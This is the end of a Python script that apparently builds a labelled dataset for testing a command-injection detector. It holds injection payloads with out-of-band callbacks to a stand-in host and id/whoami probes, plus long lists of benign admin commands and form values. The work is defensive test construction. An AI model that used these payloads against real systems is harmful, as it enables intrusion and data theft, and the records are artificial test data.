    "\n/bin/ls -al\n",
    "& nslookup xz1a2b.oast.example &",
    "|nslookup xz1a2b.oast.example",
    "`nslookup xz1a2b.oast.example`",
    "$(nslookup xz1a2b.oast.example)",
    ";curl http://xz1a2b.oast.example",
    "| wget http://xz1a2b.oast.example/",
    "&ping -c 1 xz1a2b.oast.example&",
    "\"|id|\"",
    "';id;'",
    "|| id #",
    r"&type %windir%\win.ini",
    r"|type c:\windows\win.ini",
    "192.168.1.1;id",
    "invoice.pdf|id",
    "john@example.com;id",
    "https://example.com/`id`",
    "example.org$(id)",
    "127.0.0.1%0aid",
    "&ping -n 3 127.0.0.1&",
    "1 %26%26 whoami",
]

SUBS: dict[str, list[str]] = {
    "unix-separators": UNIX_SEPARATORS,
    "unix-obfuscation": UNIX_OBFUSCATION,
    "shells": SHELLS,
    "download-exec": DOWNLOAD_EXEC,
    "exfiltration": EXFIL,
    "windows-cmd": WINDOWS_CMD,
    "powershell": POWERSHELL,
    "argument-injection": ARGUMENT_INJECTION,
    "timing": TIMING,
    "scanner": SCANNER,
}


def attacks() -> Iterator[dict[str, Any]]:
    """Each payload in three places (rotating), each with a parameter name of NAMES rotating alongside."""
    n = 0
    i = 0
    for sub, payloads in SUBS.items():
        for p in payloads:
            for place, name in three_places(i, NAMES):
                n += 1
                yield {**_place(place, name, p), "id": f"{SET}-rce-{n:04d}", "category": "rce", "sub": sub,
                       "placement": place, "payload": p}
            i += 1


# Benign: what sysadmins and developers paste into Slack (and their bios), shell sessions and all.
DEVSHELL_TEXTS = [
    "anyone know why `find . -name '*.log' -mtime +7 -exec rm {} \\;` is skipping the nested dirs? "
    "running it from /var/log/app",
    "```$ kubectl get pods -n payments | grep -v Running\nNAME                          READY   STATUS"
    "             RESTARTS   AGE\npayments-api-7d9f8b6c5-x2kqp  0/1     CrashLoopBackOff   14         52m```\n"
    "looks like it's OOMing again",
    "deploy script is just `git pull && npm ci && npm run build && pm2 reload all` - nothing fancy",
    "cron line we use for the backups: `0 3 * * * /usr/local/bin/pg_dump -Fc appdb > "
    "/backups/appdb-$(date +\\%F).dump 2>&1`",
    "```FROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl "
    "ca-certificates && rm -rf /var/lib/apt/lists/*\nWORKDIR /app\nCOPY requirements.txt .\n"
    "RUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\n"
    "CMD [\"gunicorn\", \"-b\", \"0.0.0.0:8000\", \"app:app\"]```",
    "PSA: please stop doing `curl https://get.example.dev | sudo bash` on the build boxes. download it, read it, "
    "then run it",
    "```PS C:\\Users\\dmitri> Get-Service | Where-Object {$_.Status -eq 'Stopped'} | Select-Object Name\n\n"
    "Name\n----\nAppReadiness\nBITS\nwuauserv```",
    "to check who's listening on 8080: `sudo lsof -i :8080` or `ss -ltnp | grep 8080`",
    "CI failed with ```+ ./gradlew test --no-daemon\n/bin/sh: 1: ./gradlew: Permission denied\n"
    "Error: Process completed with exit code 126.``` forgot to `chmod +x gradlew` in the repo",
    "```$ ping -c 3 10.20.0.15\nPING 10.20.0.15 (10.20.0.15) 56(84) bytes of data.\n"
    "64 bytes from 10.20.0.15: icmp_seq=1 ttl=63 time=0.412 ms\n64 bytes from 10.20.0.15: icmp_seq=2 ttl=63 "
    "time=0.388 ms\n--- 10.20.0.15 ping statistics ---\n3 packets transmitted, 3 received, 0% packet loss```"
    "db host is up, so it's the app",
    "`tar -czvf logs-$(hostname)-$(date +%Y%m%d).tar.gz /var/log/nginx/` then scp it to me pls",
    "our healthcheck in compose: `test: [\"CMD-SHELL\", \"curl -fsS http://localhost:8080/health || exit 1\"]`",
    "on windows just run `ipconfig /flushdns` and then `nslookup api.internal.example.com` again",
    "```for f in *.jpg; do convert \"$f\" -resize 50% \"thumbs/${f%.jpg}.webp\"; done```",
    "if you need the env in the container: `docker exec -it web env | sort`",
    "```Step 7/12 : RUN wget -q https://github.com/jgm/pandoc/releases/download/3.1.11/pandoc-3.1.11-1-amd64.deb "
    "&& dpkg -i pandoc-3.1.11-1-amd64.deb\n ---> Running in 4f2a9c1b7e03\n"
    "Selecting previously unselected package pandoc.```",
    "git tip: `git log --oneline --graph --decorate --all | head -40`",
    "`set -euo pipefail` at the top of every bash script, I'm begging you",
    "```$ uname -a\nLinux build-07 6.5.0-1022-aws #22~22.04.1-Ubuntu SMP x86_64 GNU/Linux\n$ id\n"
    "uid=1001(ci) gid=1001(ci) groups=1001(ci),998(docker)```so the ci user is in the docker group, "
    "that's why it worked",
    "powershell one-liner for disk space: `Get-PSDrive -PSProvider FileSystem | Select Name,Used,Free`",
    "`Invoke-WebRequest -Uri https://aka.ms/installazurecliwindows -OutFile .\\AzureCLI.msi; "
    "Start-Process msiexec.exe -Wait -ArgumentList '/I AzureCLI.msi /quiet'` is straight from the MS docs fwiw",
    "```$ sudo systemctl status nginx\n* nginx.service - A high performance web server and a reverse proxy server\n"
    "     Loaded: loaded (/lib/systemd/system/nginx.service; enabled)\n"
    "     Active: failed (Result: exit-code) since Tue 2024-06-18 09:12:44 UTC```",
    "`journalctl -u worker --since \"1 hour ago\" | grep -i error | tail -50`",
    "someone set the cron to `*/5 * * * * cd /opt/sync && ./run.sh >> /var/log/sync.log 2>&1` and the runs "
    "overlap, add flock",
    "`flock -n /tmp/sync.lock ./run.sh` fixes the overlap",
    "```$ nc -zv db-replica-2 5432\nConnection to db-replica-2 (10.0.3.22) 5432 port [tcp/postgresql] "
    "succeeded!```",
    "bash history from the incident, redacted: ```cd /srv/app\nsudo -u app ./bin/console cache:clear\n"
    "tail -f var/log/prod.log```",
    "Makefile target: ```test:\n\tpytest -q && ruff check . && mypy src```",
    "GitHub Actions step: ```- name: Install\n  run: |\n    python -m pip install --upgrade pip\n"
    "    pip install -r requirements-dev.txt```",
    "`xargs -P 8 -n 1 curl -sO < urls.txt` downloads them 8 at a time",
    "`awk -F: '{print $1}' /etc/passwd` lists users, but on our boxes most come from LDAP so use `getent passwd`",
    "for the windows agents: `schtasks /query /tn \"\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan\"`",
    "```C:\\> netstat -ano | findstr :443\n  TCP    0.0.0.0:443    0.0.0.0:0    LISTENING    4\n"
    "  TCP    10.1.2.3:51234    52.1.2.3:443    ESTABLISHED    8812```",
    "rotate the key with `ssh-keygen -t ed25519 -C \"maria@laptop\"` and paste the .pub into the portal",
    "the base64 is just config, decode with `echo \"$CFG\" | base64 -d | jq .`",
    "```$ echo $PATH\n/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin```",
    "`rsync -avz --delete -e 'ssh -p 2222' ./dist/ deploy@web-01:/var/www/site/` is what the old deploy did",
    "`wget -O - https://packages.example.com/gpg.key | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg` "
    "for the apt repo",
    "remember `sleep 30` in the entrypoint was a hack because the db wasn't ready; use wait-for-it instead",
    "`while true; do curl -s -o /dev/null -w '%{http_code}\\n' https://staging.example.com/health; sleep 2; done`",
    "the old perl script does `system(\"gzip -9 $file\")` which is scary if $file ever comes from the user, "
    "flagged it in the review",
    "security review note: `subprocess.run(['ping', '-c', '1', host], check=True)` is fine, "
    "`os.system('ping -c 1 ' + host)` is not",
    "```Traceback (most recent call last):\n  File \"/app/tasks.py\", line 88, in export\n"
    "    subprocess.check_call(cmd, shell=True)\nsubprocess.CalledProcessError: Command "
    "'zip -r /tmp/export.zip /data/exports/42' returned non-zero exit status 12.```",
    "the tar trick: `tar cf - src | (cd /mnt/backup && tar xf -)`",
    "`mkfifo` + `tee` is how we mirror the stream to the recorder, see the runbook",
    "`docker run --rm -it -v \"$PWD\":/work -w /work node:20 npm test`",
    "```> Task :app:compileKotlin\nw: /home/runner/work/app/src/main/kotlin/Sync.kt: (41, 9): "
    "Variable 'tmp' is never used\nBUILD SUCCESSFUL in 1m 12s```",
    "cmd trick for looping over files: `for %f in (*.csv) do type \"%f\" >> all.csv` (use %%f in a .bat)",
    "`setx JAVA_HOME \"C:\\Program Files\\Eclipse Adoptium\\jdk-17\"` then reopen the terminal",
    "```PS> Test-NetConnection sql01.corp.example.com -Port 1433\nComputerName     : sql01.corp.example.com\n"
    "RemoteAddress    : 10.4.0.12\nTcpTestSucceeded : True```",
    "certutil is handy for hashes: `certutil -hashfile installer.msi SHA256`",
    "`Get-ChildItem -Recurse -Filter *.log | Remove-Item -WhatIf` first, then drop -WhatIf",
    "`sed -i 's/listen 80;/listen 8080;/' /etc/nginx/conf.d/default.conf && nginx -t && nginx -s reload`",
    "the `||` in `make lint || true` is there on purpose, lint is advisory for now",
    "`dig +short TXT _dmarc.example.com` shows we still have p=none",
    "nslookup for the MX: `nslookup -type=mx example.org 1.1.1.1`",
    "`curl -X POST -H 'Content-Type: application/json' -d @payload.json https://api.staging.example.com/v1/hooks` "
    "reproduces it",
    "`curl -u admin:$TOKEN -T build.zip https://artifacts.example.com/repo/build.zip` uploads the artifact",
    "```$ git bisect run ./test.sh\nrunning ./test.sh\n...\na1b2c3d is the first bad commit```",
    "`python3 -m http.server 8000` in the build dir and open localhost:8000, quick and dirty",
    "`ps aux --sort=-%mem | head` - the node process is at 3.2G",
    "`kill -9 $(pgrep -f celery)` nuked every worker on the box, oops, use the systemd unit next time",
    "for the windows image: ```RUN powershell -Command \"Set-ExecutionPolicy Bypass -Scope Process -Force; "
    "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\"```"
    " - yes that's the official chocolatey install line",
    "bitsadmin is deprecated, use `Start-BitsTransfer -Source $url -Destination C:\\temp\\` instead",
    "```$ openssl s_client -connect api.example.com:443 -servername api.example.com </dev/null 2>/dev/null | "
    "openssl x509 -noout -dates\nnotBefore=May  2 00:00:00 2024 GMT\nnotAfter=Aug 30 23:59:59 2024 GMT```",
    "`crontab -e` on prod is forbidden, the crons live in ansible: roles/cron/templates/app.cron.j2",
    "`watch -n 5 'kubectl top pods | sort -k3 -h'`",
    "`git -c core.sshCommand=\"ssh -i ~/.ssh/deploy_key\" clone git@github.com:acme/infra.git` if your agent "
    "offers the wrong key",
    "`ssh -o ProxyJump=bastion.example.com app-03` works, no need for the old ProxyCommand nc thing",
    "`find /srv/uploads -type f -size +100M -exec ls -lh {} +` shows the big ones",
    "`tail -n 200 /var/log/nginx/error.log | grep -E 'upstream timed out|connect\\(\\) failed'`",
    "wmic is gone on 24H2, use `Get-CimInstance Win32_OperatingSystem | Select Caption, Version`",
    "`chmod 600 ~/.ssh/id_ed25519 && ssh-add ~/.ssh/id_ed25519`",
    "```$ terraform plan -out tf.plan\n...\nPlan: 3 to add, 1 to change, 0 to destroy.```",
    "`env | grep -i proxy` - the runner has HTTPS_PROXY set, that's why the webhook test fails",
    "```npm ERR! code ELIFECYCLE\nnpm ERR! errno 1\nnpm ERR! web@1.4.0 build: `tsc && vite build`\n"
    "npm ERR! Exit status 1```",
    "`echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc && source ~/.bashrc`",
    "`sudo tcpdump -i eth0 -nn port 53 -w dns.pcap` for 30 seconds while you reproduce",
    "Helm: `helm upgrade --install api ./charts/api -f values-prod.yaml --set image.tag=$(git rev-parse --short HEAD)`",
    "`zip -r site.zip public/ -x '*.map'`",
    "`timeout 10 bash -c '</dev/tcp/10.0.5.4/6379' && echo open || echo closed` - there's no nc on the image",
    "windows pause for scripts: `timeout /t 5 /nobreak > nul`",
    "```@echo off\nset LOGDIR=%~dp0logs\nif not exist \"%LOGDIR%\" mkdir \"%LOGDIR%\"\n"
    "call build.cmd > \"%LOGDIR%\\build.log\" 2>&1```",
    "`%USERPROFILE%\\AppData\\Local\\Temp` is where the installer drops its log",
    "`Get-EventLog -LogName System -Newest 20 -EntryType Error`",
    "```$ df -h /var\nFilesystem      Size  Used Avail Use% Mounted on\n/dev/nvme1n1    100G   97G  3.0G  98% /var```"
    "time to clean docker images: `docker system prune -af --volumes`",
    "`mysqldump --single-transaction -h db01 shop | gzip > shop.sql.gz`",
    "the ansible shell task: ```- name: warm cache\n  ansible.builtin.shell: curl -s http://localhost/warmup > "
    "/dev/null && touch /var/run/warmed```",
    "`ls -la /etc/cron.d/` shows a leftover from the old monitoring agent",
    "`export $(grep -v '^#' .env | xargs)` is the quick way to load a .env",
    "```$ sleep 5 && curl -s localhost:9090/-/ready\nPrometheus Server is Ready.```",
    "regsvr32 on the old COM dll: `regsvr32 /s \"C:\\Program Files\\Legacy\\report.dll\"` - needs an admin prompt",
    "`net use Z: \\\\fileserver\\projects /persistent:yes`",
    "```C:\\> whoami /groups | findstr /i admin\nBUILTIN\\Administrators  Alias  S-1-5-32-544  "
    "Mandatory group```so yes, you're local admin",
    "the git hook: ```#!/bin/sh\nexec npx lint-staged```",
    "`git config --global core.pager 'less -FRX'`",
    "`jq -r '.items[] | select(.status==\"failed\") | .id' report.json | wc -l`",
    "use `printf '%s\\n' \"$var\"` not echo when the value might start with a dash",
    "`base64 -w0 cert.pem | pbcopy` then paste it into the secret",
    "```$ curl -I https://www.example.com\nHTTP/2 200\ncontent-type: text/html; charset=UTF-8\n"
    "cache-control: max-age=600```",
    "shellcheck complains about `for f in $(ls *.txt)`, use a glob: `for f in ./*.txt`",
    "`systemctl list-timers --all | grep backup`",
    "PowerShell splatting example: ```$params = @{ Path = 'C:\\logs'; Filter = '*.txt'; Recurse = $true }\n"
    "Get-ChildItem @params```",
    "`pwsh -NoProfile -File ./build.ps1 -Configuration Release`",
    "`Start-Process powershell -Verb RunAs` to get an elevated shell",
    "the runner log: ```Run ./scripts/e2e.sh\n+ export BASE_URL=http://localhost:3000\n"
    "+ npx playwright test --reporter=line\n  12 passed (48.3s)```",
    "`rev` is useful for cutting the last field: `echo a/b/c | rev | cut -d/ -f1 | rev`",
    "`strace -f -e trace=execve -p $(pgrep -n gunicorn)` shows what it spawns",
    "`ln -sfn /opt/app/releases/20240618 /opt/app/current && sudo systemctl reload app`",
    "can someone explain why `echo ${HOME:0:1}` prints a slash? found it in a weird bash golf thread",
]

# Benign: ordinary form and query values that carry &, |, ;, quotes, host names, IPs, paths and file names.
VALUES = [
    ("q", "Tom & Jerry"), ("title", "A | B testing results"), ("note", "tea; coffee; biscuits"),
    ("company", "Johnson & Johnson"), ("q", "R&D budget 2024"), ("host", "db-01.internal.example.com"),
    ("ip", "192.168.1.20"), ("ip", "10.0.0.1"), ("ip", "2001:db8::1"), ("file", "Q3 report (final) v2.pdf"),
    ("filename", "invoice_2024-06_draft.docx"), ("filename", "backup.tar.gz"), ("path", "/home/maria/projects/site"),
    ("path", "C:\\Users\\jdoe\\Documents\\budget.xlsx"), ("domain", "example.co.uk"),
    ("url", "https://example.com/search?q=a&b=c"), ("email", "o'brien@example.ie"), ("target", "staging"),
    ("cmd", "restart"), ("cmd", "/deploy api staging"), ("ping", "8.8.8.8"), ("exec", "daily"),
    ("q", "Black & Decker drill"), ("q", "salt & pepper"), ("q", "rock | paper | scissors"),
    ("name", "Smith & Wesson"), ("title", "Dungeons & Dragons night"), ("q", "AT&T bill"), ("q", "H&M"),
    ("q", "P&L Q2"), ("notes", "Call back Mon; ask about invoice #4411"), ("address", "Flat 3; 12 High St"),
    ("q", "C# vs F#"), ("title", "Pipes & Filters architecture"), ("q", "50% off | today only"),
    ("description", "Ben & Jerry's - cookie dough; 2 tubs"), ("q", "sleep schedule tips"),
    ("q", "id card renewal"), ("q", "who am i"), ("q", "whoami meaning"), ("q", "ping pong table"),
    ("q", "cat food"), ("q", "curl cream for hair"), ("q", "bash birthday party"), ("q", "dir en grey tickets"),
    ("q", "find my phone"), ("q", "echo dot setup"), ("hostname", "web-03.prod.eu-west-1.compute.internal"),
    ("host", "mail.example.org:587"), ("target", "10.0.0.0/24"), ("cron", "0 3 * * *"),
    ("schedule", "*/15 * * * *"), ("file", "my file (1).txt"), ("file", "r\u00e9sum\u00e9.pdf"),
    ("filename", "IMG_2041.HEIC"), ("filename", "Report & Summary.docx"), ("path", "/var/www/uploads/2024/06/"),
    ("path", "~/Downloads/setup.sh"), ("path", "D:\\Projects\\app\\bin\\Release"),
    ("share", "\\\\fileserver\\marketing\\2024"), ("name", "Procter & Gamble"), ("team", "Ops | Infra"),
    ("tags", "linux;bash;devops"), ("tags", "docker, k8s, helm"), ("title", "Q&A session: ask me anything"),
    ("q", "Marks & Spencer opening hours"), ("message", "Running late; start without me!"),
    ("message", "Thanks!! :) see you at 5 & bring the slides"), ("subject", "Re: invoice #2231 | overdue?"),
    ("comment", "Works for me; closing. If it comes back, reopen & tag @ops"), ("q", "\"exact phrase\" search"),
    ("q", "it's fine"), ("bio", "SRE @ Acme | coffee & cats | he/him"),
    ("bio", "Backend dev; ex-sysadmin. I write bash so you don't have to."), ("q", "$100 gift card"),
    ("price", "$19.99"), ("formula", "=SUM(A1:A10)"), ("ua", "curl/8.5.0"), ("q", "python 3.12 | pip"),
    ("q", "Windows 11 & Office 365"), ("email", "ops+alerts@example.com"), ("url", "ftp://ftp.example.org/pub/"),
    ("url", "https://intranet.example.com/wiki/Runbook#restart"), ("q", "100% cotton; machine wash"),
    ("address", "Rue de l'\u00c9glise 4; 1000 Bruxelles"), ("name", "Zo\u00eb O'Neill-Smith"),
    ("q", "cmd line arguments"), ("q", "exec summary template"), ("q", "target audience"),
    ("q", "domain renewal"), ("file", "notes.md"), ("file", "logo@2x.png"), ("file", "data-2024_06_18.csv"),
    ("filename", "setup.exe"), ("filename", "Install Guide (EN).pdf"), ("path", "/etc/nginx/nginx.conf"),
    ("host", "localhost"), ("host", "api.example.com"), ("ip", "172.16.254.1"), ("ip", "127.0.0.1"),
    ("ping", "google.com"), ("domain", "xn--bcher-kva.example"), ("target", "https://status.example.com/"),
    ("q", "tom&jerry"), ("q", "a|b"), ("q", "x;y"), ("note", "Step 1: open cmd; step 2: type ipconfig"),
    ("note", "backup runs nightly at 02:00 (cron) & weekly on Sun"), ("q", "C:\\Program Files (x86)"),
]

# Benign: what users search for about commands.
SEARCHES = [
    "how to use find -exec", "find -exec vs xargs", "bash $(command) vs backticks", "what does 2>&1 mean",
    "nc -e not working on ubuntu", "powershell invoke-webrequest behind proxy", "certutil verify sha256 hash",
    "cmd for /f tokens example", "set /a modulo batch", "git core.sshCommand example", "tar --exclude multiple dirs",
    "curl -d @file json post", "wget -O - pipe to tar", "ssh ProxyCommand vs ProxyJump", "rsync -e ssh custom port",
    "crontab every 5 minutes", "bash sleep 10 seconds", "timeout /t in batch file", "ping -c 4 meaning",
    "dig +short TXT record", "nslookup -type=mx", "what is /dev/tcp in bash", "base64 -d invalid input",
    "xxd -r -p hex to binary", "printf hex escape bash", "${var:0:1} substring bash", "IFS read while loop",
    "mkfifo named pipe example", "socat port forward tcp", "python -m http.server port", "%~dp0 batch meaning",
    "%COMSPEC% environment variable", "rundll32 printui add printer", "regsvr32 unregister dll",
    "wmic deprecated replacement powershell", "mshta blocked by group policy", "bitsadmin transfer example",
    "Start-Process -Verb RunAs", "powershell -EncodedCommand how to", "zip -T test archive integrity",
    "sendmail -t usage", "awk print last column", "kill all processes by name linux",
    "chmod +x permission denied", "whoami /priv explained",
]

DOC_URLS = [
    "https://man7.org/linux/man-pages/man1/find.1.html",
    "https://man7.org/linux/man-pages/man1/bash.1.html",
    "https://man7.org/linux/man-pages/man1/tar.1.html",
    "https://curl.se/docs/manpage.html#-K",
    "https://www.gnu.org/software/tar/manual/html_node/checkpoints.html",
    "https://www.gnu.org/software/bash/manual/html_node/Shell-Parameter-Expansion.html",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/timeout",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest"
    "?view=powershell-7.4",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-expression"
    "?view=powershell-7.4",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_pwsh"
    "?view=powershell-7.4#-encodedcommand---e---ec",
    "https://learn.microsoft.com/en-us/windows/win32/bits/bitsadmin-tool",
    "https://git-scm.com/docs/git-config#Documentation/git-config.txt-coresshCommand",
    "https://git-scm.com/docs/git-upload-pack",
    "https://man.openbsd.org/ssh_config#ProxyCommand",
    "https://linux.die.net/man/1/wget",
    "https://linux.die.net/man/1/rsync",
    "https://www.gnu.org/software/gawk/manual/html_node/TCP_002fIP-Networking.html",
    "https://docs.docker.com/reference/dockerfile/#run",
    "https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idstepsrun",
    "https://www.shellcheck.net/wiki/SC2086",
    "https://mywiki.wooledge.org/BashFAQ/050",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
    "https://docs.python.org/3/library/subprocess.html#security-considerations",
    "https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback",
    "https://ss64.com/nt/for_f.html",
    "https://ss64.com/ps/invoke-expression.html",
    "https://explainshell.com/explain?cmd=tar+-czvf+backup.tar.gz+%2Fhome",
    "https://crontab.guru/#*/5_*_*_*_*",
    "https://unix.stackexchange.com/questions/tagged/find",
]

DOC_PROSE = [
    "Our runbook says to restart the worker with systemctl restart worker && journalctl -fu worker",
    "The ping command on Windows uses -n for the count; on Linux it's -c",
    "Customer reports the export zip is empty; they uploaded 'Q2 sales & returns.xlsx'",
    "Ticket: user cannot run powershell scripts, execution policy is Restricted",
    "Please whitelist 10.20.0.0/16 & 10.30.0.0/16 for the VPN users",
    "Search for the order placed by Tom & Jerry's Pizza; it was refunded twice",
    "The cron job at 0 3 * * * failed with exit code 127 (command not found)",
    "User says the file name has a pipe in it (report|final.pdf) and the upload fails",
    "Install note: run setup.exe /quiet /norestart then reboot",
    "Reset password for j.smith; he mistyped it & locked himself out",
    "Why does `sleep` in our healthcheck make the container start slowly?",
    "Customer pasted: curl: (6) Could not resolve host: api.example.com",
    "The nightly backup uses tar and rsync over ssh; logs are in /var/log/backup.log",
    "Request: give the data team read access to /srv/exports; no write",
    "Meeting notes - A | B test of the new checkout; conversions +3%",
    "admin user export where role = 'ops' & status = active",
    "Printer on floor 2 is \\\\print01\\floor2-color; drivers from the IT share",
    "Looking for the invoice with reference INV-2024-0042 (paid; partial)",
    "cmd.exe keeps popping up at login for user mlopez - probably a leftover scheduled task",
    "Escalation: ping from 10.1.1.5 to the DB host times out after 3 hops",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(DEVSHELL_TEXTS, f"{SET}-benign-devshell")
    places = ["query", "form", "json"]
    for i, (name, value) in enumerate(VALUES):
        place = places[i % len(places)]
        yield {**_place(place, name, value), "id": f"{SET}-benign-value-{i + 1:04d}", "category": "benign",
               "placement": place}
    for i, text in enumerate(SEARCHES):
        rec = _get(_query("/api/users", [("q", text), ("page", "1")])) if i % 2 == 0 else prose_request(text)
        yield {**rec, "id": f"{SET}-benign-search-{i + 1:04d}", "category": "benign",
               "placement": "query" if i % 2 == 0 else "form"}
    yield from links_and_prose(DOC_URLS, DOC_PROSE, f"{SET}-benign-docs", n)


if __name__ == "__main__":
    print_records(attacks(), benign())
